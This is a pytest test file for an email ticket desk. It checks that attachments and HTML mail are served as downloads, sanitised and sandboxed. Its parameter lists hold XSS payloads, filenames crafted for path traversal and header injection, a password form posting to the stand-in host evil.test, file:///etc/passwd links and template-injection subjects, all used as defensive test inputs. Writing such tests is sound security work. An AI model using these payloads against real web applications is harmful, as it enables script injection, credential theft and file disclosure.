"""Strangers' files and HTML on our pages: saved, never opened; shown without rights (SAFETY rows 18, 19, 36, 38)."""

from __future__ import annotations

import datetime as dt

import pytest
from sqlalchemy import select

from takt.web.mail_html import clean
from tests.support.browserless import client
from tests.support.desk import Desk
from tests.support.intake import Intake, letter
from tickets.records import Message
from tickets.store import Store


@pytest.fixture
def desk(sqlite_store: Store, now: dt.datetime) -> Desk:
    return Desk.furnish(sqlite_store, now)


def with_file(name: str, kind: str, content: bytes) -> bytes:
    return (
        b"From: kim@example.org\r\nTo: service@takt.test\r\nSubject: Scan\r\nMIME-Version: 1.0\r\n"
        b"Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n\r\nAnbei.\r\n--b\r\n"
        + f'Content-Type: {kind}\r\nContent-Disposition: inline; filename="{name}"\r\n\r\n'.encode()
        + content
        + b"\r\n--b--\r\n"
    )


FILES = [
    ("a.html", "text/html", b"<script>alert(1)</script>"),
    ("a.svg", "image/svg+xml", b"<svg onload='alert(1)'/>"),
    ("a.pdf", "application/pdf", b"%PDF-1.4 /JS (app.alert(1))"),
    ("a.xml", "text/xml", b"<?xml-stylesheet href='x.xsl'?><x/>"),
    ("x.png", "image/png", b"<html><script>alert(1)</script>"),
    ("a.html;.png", "image/png", b"<html>"),
    ("../../../etc/passwd", "text/plain", b"x"),
    ("C:\\\\Windows\\\\x.exe", "application/x-msdownload", b"MZ"),
    ("..%2f..%2fx", "text/plain", b"x"),
    ("a\x00.png", "image/png", b"x"),
    ("x" * 5000 + ".txt", "text/plain", b"x"),
    ("CON", "text/plain", b"x"),
    ("\u202egnp.exe", "image/png", b"x"),
    ('a"; filename=b.html', "text/plain", b"x"),
    ("=?utf-8?q?a=0D=0AX-Evil:_1?=.txt", "text/plain", b"x"),
]


@pytest.mark.parametrize(("name", "kind", "content"), FILES, ids=lambda v: repr(v)[:24])
def test_a_file_is_saved_and_never_opened(desk: Desk, name: str, kind: str, content: bytes) -> None:
    Intake.at(desk).receive(with_file(name, kind, content))
    with desk.store.read() as session:
        message = session.scalars(select(Message)).one()
    page = client(desk, desk.agent_id)
    answer = page.get(f"/messages/{message.id}/attachments/0")
    assert (answer.status_code, answer.content) == (200, content)
    assert answer.headers["content-type"] == "application/octet-stream"
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert "sandbox" in answer.headers["content-security-policy"]
    disposition = answer.headers["content-disposition"]
    assert disposition.startswith("attachment; filename*=UTF-8''")
    label = disposition.partition("''")[2]
    assert (
        not set(label) & set('/\\"; \r\n') and "%00" not in label and "%0D" not in label and len(label) < 1000
    )
    assert "%2F" not in label.upper().replace("%252F", "") and "x-evil" not in {
        k.lower() for k in answer.headers
    }
    shown = page.get("/tickets/T-2026-000001")
    assert shown.status_code == 200 and "<script>alert" not in shown.text and "\u202e" not in shown.text


@pytest.mark.parametrize("index", ["1", "-1", "99999999999999999999", "x"])
def test_a_file_that_is_not_there_is_missing(desk: Desk, index: str) -> None:
    Intake.at(desk).receive(with_file("a.txt", "text/plain", b"x"))
    assert client(desk, desk.agent_id).get(f"/messages/1/attachments/{index}").status_code in (404, 422)


HTML = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<a href='javascript:alert(1)'>x</a>",
    "<iframe src='https://evil.test'></iframe>",
    "<form action='https://evil.test'><input name=password></form>",
    "<base href='https://evil.test/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.test'>",
    "<link rel=stylesheet href='https://evil.test/x.css'>",
    "<style>body{background:url(https://evil.test/x)}</style>",
    "<div style='background:url(https://evil.test/x)'>x</div>",
    "<img src='https://evil.test/pixel.gif'>",
    "<object data='https://evil.test'></object><embed src='https://evil.test'>",
    "<math><mtext></p><style><img src=x onerror=alert(1)></style></math>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<div " * 3000,
    "<div>" * 3000 + "x",
]


@pytest.mark.parametrize("html", HTML, ids=lambda v: v[:24])
def test_html_is_shown_without_rights_and_loads_nothing(desk: Desk, html: str) -> None:
    raw = letter(text="PLATZ", content_type="text/html; charset=utf-8").replace(
        b"Content-Type: text/plain; charset=utf-8\r\n", b""
    )
    Intake.at(desk).receive(raw.replace(b"PLATZ", f"<p>Guten Tag,</p>{html}".encode()))
    page = client(desk, desk.agent_id)
    frame = page.get("/messages/1/html")
    policy = frame.headers["content-security-policy"]
    assert frame.status_code == 200
    assert "default-src 'none'" in policy and "sandbox" in policy and "script-src" not in policy
    assert "allow-scripts" not in policy and "allow-same-origin" not in policy
    lowered = frame.text.lower()
    for bad in (
        "<script",
        "onerror",
        "onload",
        "javascript:",
        "<iframe",
        "<form",
        "<base href",
        "<object",
        "<embed",
        '<meta http-equiv="refresh',
        "<link",
    ):
        assert bad not in lowered
    assert "evil.test" not in lowered.replace("https://evil.test/pixel.gif", "") or "src=" not in lowered
    ticket = page.get("/tickets/T-2026-000001").text
    assert "<iframe sandbox" in ticket and "allow-scripts" not in ticket and "allow-same-origin" not in ticket
    assert "<script>alert(1)" not in ticket and "onerror=alert" not in ticket


LEADING = [
    ("https://shop.example/4711", True),
    ("HTTP://shop.example", True),
    ("mailto:kim@example.org", True),
    ("tel:+4930123456", True),
    (" https://shop.example/ ", True),
    ("data:text/html,<b>Anmeldung</b>", False),
    ("javascript:alert(1)", False),
    ("java&#10;script:alert(1)", False),
    ("/logout", False),
    ("tickets/T-2026-000001", False),
    ("//shop.example", False),
    ("https:/logout", False),
    ("https:logout", False),
    ("https:\\\\logout", False),
    ("#unten", False),
    ("?view=team", False),
    ("", False),
    ("cid:bild@example.org", False),
    ("file:///etc/passwd", False),
]


@pytest.mark.parametrize(("href", "leads"), LEADING)
def test_a_link_leads_out_of_the_desk_or_nowhere(href: str, leads: bool) -> None:
    cleaned = clean(f'<p>Siehe <a href="{href}">hier</a></p>')
    assert ("href=" in cleaned) is leads and ">hier</a>" in cleaned


@pytest.mark.parametrize(
    ("sender", "links"), [("kim@example.org", 1), ('"support@corp.example" <kim@example.org>', 0)]
)
def test_links_of_a_doubtful_sender_stay_text(desk: Desk, sender: str, links: int) -> None:
    address = "https://shop.example/4711"
    raw = alternative(f"Siehe {address}", f"<p>Siehe <a href='{address}'>hier</a></p>")
    Intake.at(desk).receive(raw.replace(b"kim@example.org", sender.encode(), 1))
    ticket = client(desk, desk.agent_id).get("/tickets/T-2026-000001").text
    assert (ticket.count(f'<a href="{address}"'), ticket.count('sandbox="allow-popups')) == (links, links)
    assert address in ticket and 'src="/messages/1/html"' in ticket


def alternative(text: str, html: str) -> bytes:
    parts = f"--g\r\nContent-Type: text/plain\r\n\r\n{text}\r\n--g\r\nContent-Type: text/html\r\n\r\n{html}\r\n--g--\r\n"
    head = "From: kim@example.org\r\nTo: service@takt.test\r\nSubject: Frage\r\n"
    return f'{head}Content-Type: multipart/alternative; boundary="g"\r\n\r\n{parts}'.encode()


LETTER = "<p>Guten Tag, unsere Heizung ist seit gestern kalt. Wann kommt jemand?</p><p>Kim Lee</p>"


def test_a_poor_text_part_is_folded_below_the_words_of_the_html(desk: Desk) -> None:
    Intake.at(desk).receive(alternative("Please use an HTML client. <script>alert(1)</script>", LETTER))
    page = client(desk, desk.agent_id)
    ticket = page.get("/tickets/T-2026-000001").text
    assert "unsere Heizung ist seit gestern kalt" in ticket and "Please use an HTML client" not in ticket
    assert 'src="/messages/1/text"' in ticket and 'src="/messages/1/html"' in ticket
    frame = page.get("/messages/1/text")
    assert "<pre>Please use an HTML client. &lt;script&gt;alert(1)&lt;/script&gt;</pre>" in frame.text
    assert "sandbox" in frame.headers["content-security-policy"]
    assert client(desk, None).get("/messages/1/text").status_code == 303


def test_two_different_letters_in_one_mail_are_said_to_differ(desk: Desk) -> None:
    text = "Bitte buchen Sie den Betrag von 400 Euro auf unser neues Konto, es eilt sehr. Danke, Ihre Buchhaltung"
    Intake.at(desk).receive(alternative(text, LETTER))
    ticket = client(desk, desk.agent_id).get("/tickets/T-2026-000001").text
    assert "Der Text und die HTML-Fassung dieser Mail sagen nicht dasselbe." in ticket
    assert text in ticket and 'src="/messages/1/html"' in ticket and "/messages/1/text" not in ticket


def test_the_raw_mail_is_text(desk: Desk) -> None:
    Intake.at(desk).receive(letter(text="<script>alert(1)</script>\n"))
    answer = client(desk, desk.agent_id).get("/messages/1/raw")
    assert answer.headers["content-type"] == "text/plain; charset=utf-8"
    assert "sandbox" in answer.headers["content-security-policy"]


@pytest.mark.parametrize(
    "subject", ["<script>alert(1)</script>", "{{7*7}}", "{% raw %}", '" onmouseover="alert(1)', "&lt;b&gt;"]
)
def test_a_subject_is_shown_as_it_is_written(desk: Desk, subject: str) -> None:
    import html

    Intake.at(desk).receive(letter(subject=subject))
    page = client(desk, desk.agent_id)
    for path in ("/tickets/T-2026-000001", "/?view=team"):
        text = page.get(path).text
        assert html.escape(subject, quote=False) in text.replace("&#34;", '"') and "<script>alert" not in text
